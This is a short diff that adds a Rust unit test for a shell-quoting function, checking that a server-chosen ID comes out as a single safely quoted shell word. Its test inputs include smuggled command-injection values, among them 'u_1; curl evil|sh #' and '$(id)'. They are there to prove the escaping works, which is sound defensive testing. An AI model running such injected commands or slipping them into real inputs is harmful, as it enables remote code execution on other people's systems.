@@ -39,3 +39,12 @@ fn every_line_break_is_shown_not_obeyed() {
         "a\\u{a}b\\u{d}\\u{a}c\\u{85}d\\u{2028}e\\u{2029}f"
     );
 }
+
+#[test]
+fn a_server_chosen_id_is_one_shell_word() {
+    assert_eq!(shell_word("u_1.a-B"), "u_1.a-B");
+    assert_eq!(shell_word("u_1; curl evil|sh #"), "'u_1; curl evil|sh #'");
+    assert_eq!(shell_word("it's"), r"'it'\''s'");
+    assert_eq!(shell_word(""), "''");
+    assert_eq!(shell_word("$(id)"), "'$(id)'");
+}
